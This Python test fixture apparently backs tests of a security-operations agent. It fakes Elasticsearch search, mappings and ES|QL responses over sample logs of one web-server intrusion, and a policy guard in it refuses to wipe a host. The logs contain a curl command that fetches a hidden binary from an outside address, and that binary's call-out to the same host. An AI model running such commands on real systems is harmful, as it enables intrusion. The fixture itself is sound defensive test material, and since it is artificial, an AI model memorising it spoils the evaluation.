"""A small Tools object for the adapter tests, answering in Elasticsearch's shapes.

It holds a handful of ECS documents of one intrusion (a web server that ran a
dropped binary calling out to an external address) and implements just enough
of each tool to answer them like Elasticsearch would: index patterns, a few
Query DSL clauses, a small ES|QL subset, errors in Elasticsearch's shape, and a
guard that refuses destructive actions.
"""

from __future__ import annotations

import copy
import fnmatch
import re
from typing import Any

from pytest_soclab.errors import ToolError
from pytest_soclab.models.tools import READ_TOOLS, REPORT_TOOL, tool_specs

DOCS: dict[str, list[dict[str, Any]]] = {
    ".ds-logs-endpoint.events.process-default-2024.05.14-000001": [
        {
            "_id": "p-1",
            "@timestamp": "2024-05-14T09:12:03.120Z",
            "host": {"name": "web-01", "os": {"family": "linux"}},
            "user": {"name": "www-data"},
            "event": {"category": ["process"], "type": ["start"], "action": "exec"},
            "process": {
                "pid": 4242,
                "name": ".sysupdate",
                "executable": "/tmp/.sysupdate",
                "command_line": "/tmp/.sysupdate -c 203.0.113.45:443",
                "parent": {"name": "php-fpm", "pid": 811},
            },
        },
        {
            "_id": "p-2",
            "@timestamp": "2024-05-14T09:11:58.004Z",
            "host": {"name": "web-01", "os": {"family": "linux"}},
            "user": {"name": "www-data"},
            "event": {"category": ["process"], "type": ["start"], "action": "exec"},
            "process": {
                "pid": 4239,
                "name": "curl",
                "executable": "/usr/bin/curl",
                "command_line": "curl -s http://203.0.113.45/s -o /tmp/.sysupdate",
                "parent": {"name": "sh", "pid": 4238},
            },
        },
        {
            "_id": "p-3",
            "@timestamp": "2024-05-14T08:00:00.000Z",
            "host": {"name": "db-01", "os": {"family": "linux"}},
            "user": {"name": "postgres"},
            "event": {"category": ["process"], "type": ["start"], "action": "exec"},
            "process": {
                "pid": 1200,
                "name": "pg_dump",
                "executable": "/usr/bin/pg_dump",
                "command_line": "pg_dump -Fc appdb",
                "parent": {"name": "cron", "pid": 900},
            },
        },
    ],
    ".ds-logs-zeek.conn-default-2024.05.14-000001": [
        {
            "_id": "z-1",
            "@timestamp": "2024-05-14T09:12:04.500Z",
            "source": {"ip": "10.0.1.15", "port": 51544},
            "destination": {"ip": "203.0.113.45", "port": 443},
            "network": {"transport": "tcp"},
            "host": {"name": "sensor-01"},
            "zeek": {"conn": {"state": "SF", "history": "ShADadFf"}},
        }
    ],
}
DATA_STREAMS = {
    "logs-endpoint.events.process-default": ".ds-logs-endpoint.events.process-default-2024.05.14-000001",
    "logs-zeek.conn-default": ".ds-logs-zeek.conn-default-2024.05.14-000001",
}


def _es_error(status: int, type_: str, reason: str, **extra: Any) -> ToolError:
    return ToolError(status, type_, reason, **extra)


def _flatten(doc: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    out: dict[str, Any] = {}
    for key, value in doc.items():
        if key == "_id":
            continue
        name = f"{prefix}{key}"
        if isinstance(value, dict):
            out.update(_flatten(value, name + "."))
        else:
            out[name] = value
    return out


def _field_type(value: Any) -> str:
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, int):
        return "long"
    if isinstance(value, list):
        return "keyword"
    if isinstance(value, str) and re.fullmatch(r"\d+\.\d+\.\d+\.\d+", value):
        return "ip"
    if isinstance(value, str) and re.fullmatch(r"\d{4}-\d\d-\d\dT.*Z", value):
        return "date"
    return "keyword"


class FakeTools:
    """Tools over DOCS. `calls` records (tool, args, ok) in order; `reports` the submitted reports."""

    def __init__(
        self,
        allowed: tuple[str, ...] = (*READ_TOOLS, "isolate_host", "wipe_host", REPORT_TOOL),
        denied: frozenset[str] = frozenset({"wipe_host"}),
    ):
        self.allowed = allowed
        self.denied = denied
        self.calls: list[tuple[str, dict[str, Any], bool]] = []
        self.reports: list[dict[str, Any]] = []

    def specs(self) -> list[dict[str, Any]]:
        return tool_specs(self.allowed)

    def call(self, name: str, /, **args: Any) -> dict[str, Any]:
        try:
            result = self._dispatch(name, args)
        except ToolError:
            self.calls.append((name, copy.deepcopy(args), False))
            raise
        self.calls.append((name, copy.deepcopy(args), True))
        return result

    # -- dispatch -------------------------------------------------------------------------------
    def _dispatch(self, name: str, args: dict[str, Any]) -> dict[str, Any]:
        if name not in self.allowed:
            raise _es_error(403, "security_exception", f"action [{name}] is not allowed in this scenario")
        if name in self.denied:
            raise _es_error(
                403,
                "security_exception",
                f"action [{name}] denied by policy: destructive action on a production host",
            )
        handler = getattr(self, f"_t_{name}", None)
        if handler is None:
            return {
                "action": name,
                "status": "successful",
                **{k: v for k, v in args.items() if k != "comment"},
            }
        try:
            return handler(**args)
        except TypeError as exc:  # wrong argument names: answered like Elasticsearch's request validation
            raise _es_error(400, "illegal_argument_exception", f"[{name}] {exc}") from None

    def _indices(self, expr: str) -> list[str]:
        found: list[str] = []
        for part in expr.split(","):
            part = part.strip()
            names = [n for n in DOCS if fnmatch.fnmatch(n, part)]
            names += [DATA_STREAMS[ds] for ds in DATA_STREAMS if fnmatch.fnmatch(ds, part)]
            if not names and "*" not in part:
                raise _es_error(
                    404,
                    "index_not_found_exception",
                    f"no such index [{part}]",
                    **{"resource.type": "index_or_alias", "resource.id": part, "index": part},
                )
            found += [n for n in names if n not in found]
        return found

    def _t_list_indices(self, pattern: str = "*") -> dict[str, Any]:
        rows = [
            {"health": "green", "status": "open", "index": index, "docs.count": str(len(DOCS[index]))}
            for index in self._indices(pattern)
        ]
        return {"indices": rows}

    def _t_get_mappings(self, index: str) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for name in self._indices(index):
            props: dict[str, Any] = {}
            for doc in DOCS[name]:
                for field, value in _flatten(doc).items():
                    props[field] = {"type": _field_type(value)}
            out[name] = {"mappings": {"properties": props}}
        return out

    def _matches(self, flat: dict[str, Any], query: dict[str, Any]) -> bool:
        if not query or "match_all" in query:
            return True
        ((kind, spec),) = query.items()
        if kind in ("term", "match"):
            ((field, want),) = spec.items()
            if isinstance(want, dict):
                want = want.get("value", want.get("query"))
            have = flat.get(field)
            return want in have if isinstance(have, list) else have == want
        if kind == "bool":
            return all(self._matches(flat, q) for q in spec.get("filter", []) + spec.get("must", []))
        raise _es_error(400, "parsing_exception", f"unknown query [{kind}]", line=1, col=14)

    def _t_es_search(self, index: str, body: dict[str, Any] | None = None) -> dict[str, Any]:
        body = body or {}
        size = int(body.get("size", 10))
        hits = []
        for name in self._indices(index):
            for doc in DOCS[name]:
                if self._matches(_flatten(doc), body.get("query", {})):
                    src = {k: v for k, v in doc.items() if k != "_id"}
                    hits.append({"_index": name, "_id": doc["_id"], "_score": 1.0, "_source": src})
        hits.sort(key=lambda h: h["_source"]["@timestamp"], reverse=True)
        return {
            "took": 3,
            "timed_out": False,
            "_shards": {"total": 1, "successful": 1, "skipped": 0, "failed": 0},
            "hits": {"total": {"value": len(hits), "relation": "eq"}, "max_score": 1.0, "hits": hits[:size]},
        }

    _ESQL = re.compile(
        r"^FROM\s+(?P<index>\S+)"
        r'(?:\s*\|\s*WHERE\s+(?P<field>[\w.@]+)\s*==\s*"(?P<value>[^"]*)")?'
        r"(?:\s*\|\s*KEEP\s+(?P<keep>[\w.@, ]+?))?"
        r"(?:\s*\|\s*LIMIT\s+(?P<limit>\d+))?\s*$",
        re.S,
    )

    def _t_esql_query(
        self, query: str, params: list[Any] | None = None, columnar: bool = False
    ) -> dict[str, Any]:
        m = self._ESQL.match(query.strip())
        if not m:
            raise _es_error(
                400, "parsing_exception", "line 1:1: mismatched input expecting {'from', 'row', 'show'}"
            )
        rows = []
        for name in self._indices(m["index"]):
            rows += [_flatten(d) for d in DOCS[name]]
        known = sorted({k for r in rows for k in r})
        wanted = [c.strip() for c in m["keep"].split(",")] if m["keep"] else known
        for col in wanted + ([m["field"]] if m["field"] else []):
            if col not in known:
                raise _es_error(
                    400, "verification_exception", f"Found 1 problem\nline 1:1: Unknown column [{col}]"
                )
        if m["field"]:
            rows = [r for r in rows if str(r.get(m["field"])) == m["value"]]
        rows.sort(key=lambda r: r.get("@timestamp", ""))
        rows = rows[: int(m["limit"] or 1000)]
        sample = {k: v for r in rows for k, v in r.items()}
        return {
            "took": 2,
            "is_partial": False,
            "columns": [{"name": c, "type": _field_type(sample.get(c))} for c in wanted],
            "values": [[r.get(c) for c in wanted] for r in rows],
        }

    def _t_submit_report(self, markdown: str, findings: dict[str, Any] | None = None) -> dict[str, Any]:
        self.reports.append({"markdown": markdown, "findings": findings})
        return {"acknowledged": True}
